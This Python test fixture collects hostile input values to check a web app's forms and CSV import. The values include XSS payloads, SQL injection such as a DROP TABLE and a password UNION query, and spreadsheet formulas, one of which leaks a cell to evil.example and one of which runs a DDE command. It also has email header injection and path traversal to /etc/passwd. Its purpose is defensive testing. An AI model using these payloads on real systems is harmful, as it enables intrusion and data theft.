"""One shared corpus of hostile values, for every field of every form and for the CSV import.

Each value is a string, as a browser or a spreadsheet sends it. They are
grouped by the kind of fault they look for; the comment on each says what
it attacks. ``MARKUP`` lists the values that must never come back
unescaped in a page or an email (``assert_escaped`` in the tests).
"""

# --- empty and blank: required checks, strip(), "" vs None ---------------------------------
BLANK = [
    "",  # an empty field: required fields must say so, optional ones store nothing
    " ",  # one space: stripped to empty, must not pass a required check
    "\t",  # a tab
    "   \n   ",  # spaces around a newline: blank after strip
    "\u00a0",  # no-break space: str.strip() removes it, some regexes and browsers do not
    "\u200b",  # zero-width space: looks empty, is not
    "\u3000",  # ideographic space
    "\ufeff",  # byte-order mark pasted from a file
]

# --- size: max_length, database column limits, rendering of long text -----------------------
SIZE = [
    "A" * 100_000,  # 100 KB in one field: over every max_length, must be refused not truncated
    "x" * 201,  # one past the 200-character titles and names
    "x" * 301,  # one past the 300-character subjects and references
    "é" * 5_001,  # multi-byte text over a 5 000-character limit: bytes vs characters
    "\U0001f4a5" * 2_001,  # astral emoji over 2 000: UTF-16 length differs from Python's
    "word " * 4_001,  # 20 005 characters of many short words: over the 20 000 summary limit
]

# --- control characters: database drivers, XML/HTML renderers, PDFs, logs --------------------
CONTROL = [
    "\x00",  # NUL alone: PostgreSQL text refuses it (ValueError in psycopg), SQLite keeps it
    "before\x00after",  # NUL inside text
    "\x00" * 64,  # many NULs
    "\x01\x02\x03\x04\x05\x06\x07\x08",  # C0 controls: invalid in XML 1.0 and in JSON unescaped
    "\x0b\x0c",  # vertical tab, form feed
    "\x1b[31mred\x1b[0m",  # ANSI escapes: colour a terminal that reads the log
    "\x7f",  # DEL
    "\x85",  # NEL: a line break to Unicode, not to str.split("\n")
    "line\u2028separator",  # LINE SEPARATOR: breaks JavaScript strings before ES2019
    "para\u2029separator",  # PARAGRAPH SEPARATOR
    "\ufffd",  # the replacement character a decoder leaves for broken UTF-8
    "\ufffe\uffff",  # noncharacters
]

# --- bidirectional text and combining marks: spoofing what a reader sees ---------------------
UNICODE = [
    "\u202egnp.exe",  # RIGHT-TO-LEFT OVERRIDE: "exe.png" shown for an .exe
    "admin\u202e\u2066x\u2069",  # RLO with isolates left open across the page
    "\u2067\u2068\u2069",  # stray isolates
    "e\u0301\u0301\u0301\u0301\u0301",  # stacked combining acute accents
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358\u0359\u035a" * 20,  # "Zalgo" text
    "\u0301",  # a combining mark with nothing to combine with
    "ｓｃｒｉｐｔ",  # fullwidth letters that normalise (NFKC) to "script"
    "\U0001f600\U0001f4a9\U0001f525",  # emoji outside the Basic Multilingual Plane
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",  # a ZWJ family: one glyph
    "\U0001f1e9\U0001f1ea",  # regional indicators (a flag)
    "İstanbul ß ﬁ",  # case mapping that changes length (İ, ß, ligature)
    "Ω≈ç√∫",  # symbols in a name
    "日本語テキスト",  # CJK
    "مرحبا بالعالم",  # right-to-left script, no override
]

# --- markup: HTML, attributes, scripts, templates --------------------------------------------
MARKUP = [
    "<script>alert(1)</script>",  # the classic: rendered raw, it runs
    '"><img src=x onerror=alert(1)>',  # breaks out of a double-quoted attribute
    "'><svg onload=alert(1)>",  # breaks out of a single-quoted attribute
    "</textarea><script>alert(1)</script>",  # closes the textarea the value is shown in
    "</title><script>alert(1)</script>",  # closes the title of the page
    '<a href="javascript:alert(1)">click</a>',  # a javascript: link in rendered text
    "javascript:alert(1)",  # a javascript: URL where a link is made from the value
    "<iframe srcdoc='<script>alert(1)</script>'>",  # nested document
    "<!--",  # opens a comment that swallows the rest of the page
    "]]><script>alert(1)</script>",  # ends a CDATA section
    "{{ request.user.password }}",  # a Django template expression, if text is ever compiled
    "{% debug %}",  # a Django template tag
    "${7*7}",  # JavaScript template literal / other engines
    "hx-get=/admin/ hx-trigger=load",  # htmx attributes if a value lands inside a tag
    "<style>*{display:none}</style>",  # CSS that hides the page
    "&lt;script&gt;",  # already-escaped text: must not be unescaped once more
    "<b>bold</b> & <i>it</i>",  # harmless markup: shown as text, not as bold
]

# --- injection into queries, searches and file formats ---------------------------------------
INJECTION = [
    "' OR '1'='1",  # SQL quoting
    "'; DROP TABLE incidents_incident; --",  # stacked statement
    "1 UNION SELECT password FROM breachdesk_user",  # union
    "%",  # LIKE wildcard
    "_",  # LIKE single-character wildcard
    "\\",  # a lone backslash: escaping in LIKE and in JSON
    "=1+2",  # formula cell: a spreadsheet opening the export runs it
    '=HYPERLINK("http://evil.example/?"&A1,"click")',  # formula that leaks a cell
    "+cmd|' /C calc'!A0",  # DDE formula
    "-2+3",  # formula starting with a minus
    "@SUM(A1:A9)",  # formula starting with @
    "\t=1+2",  # formula behind a tab
    'a,b,"c\nd"',  # CSV separators, quotes and a newline inside a cell
    "Subject\r\nBcc: attacker@evil.example",  # CRLF with a header: email header injection
    "x\r\n\r\n<html>body</html>",  # CRLF ending the headers: a forged body
    "line1\rline2",  # a bare CR
    "../../etc/passwd",  # a path, where a file name is made from the value
    "http://evil.example/%0d%0aSet-Cookie:x=1",  # URL-encoded CRLF
]

# --- dates and times: parsing, zones, ranges --------------------------------------------------
DATES = [
    "0001-01-01T00:00",  # year 1: cannot be moved to UTC from a zone east of Greenwich
    "9999-12-31T23:59",  # the last datetime Python has: adding an hour overflows
    "1899-12-31",  # a date before 1900 (spreadsheets, strftime)
    "2100-01-01T00:00",  # the first date past the plausible range
    "1989-12-31T23:59",  # the last minute before it
    "2026-02-30T10:00",  # an impossible day
    "2026-13-01T10:00",  # an impossible month
    "2026-03-02T25:61",  # an impossible time
    "2026-03-29T02:30",  # a time that does not exist in Europe (spring forward)
    "2026-03-02T09:00:00+14:00",  # an explicit zone on a zone-less input
    "2026-03-02T09:00:00Z",  # UTC marker
    "2026-03-02",  # a date where a date and time is asked for
    "10:00",  # a time without a date
    "02/03/2026 10:00",  # a local format
    "now",  # a word
    "1e10",  # a number where a date is asked for
    "-2026-03-02",  # a negative year
    "99999-01-01",  # a five-digit year
]

# --- numbers: ranges, overflow, non-integers ---------------------------------------------------
NUMBERS = [
    "0",  # zero: not an id, not a window
    "-1",  # negative
    "-9223372036854775809",  # one below the 64-bit minimum
    "9223372036854775808",  # one above the 64-bit maximum: OverflowError in SQLite
    "2147483648",  # one above the 32-bit maximum (PostgreSQL integer)
    "1" * 400,  # 400 digits: int() refuses past 4300 digits, databases far sooner
    "1.5",  # a decimal where a whole number is asked for
    "1e3",  # exponent notation
    "NaN",  # not a number (float() accepts it)
    "Infinity",  # infinity (float() accepts it)
    "-0",  # negative zero
    "0x1F",  # hexadecimal
    "١٢٣",  # Arabic-Indic digits: int() accepts them
    "1_000",  # underscores: int() accepts them
    " 42 ",  # padded
    "12,000",  # a thousands separator
]

# --- wrong types: what a form field never offers ----------------------------------------------
WRONG_TYPES = [
    "true",  # a boolean word in a number or choice
    "None",  # Python's null, spelled
    "null",  # JSON's null
    "[]",  # an empty list, spelled
    '{"a": 1}',  # a JSON object
    "00000000-0000-0000-0000-000000000000",  # the nil UUID where a token or id goes
    "not-a-uuid",  # a malformed token
    "yes",  # a tri-state word in a field that is not one
]

GROUPS: dict[str, list[str]] = {
    "blank": BLANK,
    "size": SIZE,
    "control": CONTROL,
    "unicode": UNICODE,
    "markup": MARKUP,
    "injection": INJECTION,
    "dates": DATES,
    "numbers": NUMBERS,
    "wrong types": WRONG_TYPES,
}

CORPUS: list[str] = [value for values in GROUPS.values() for value in values]

# Values that a page or an email must never carry as they are.
DANGEROUS_MARKUP = [value for value in MARKUP if "<" in value or '"' in value]
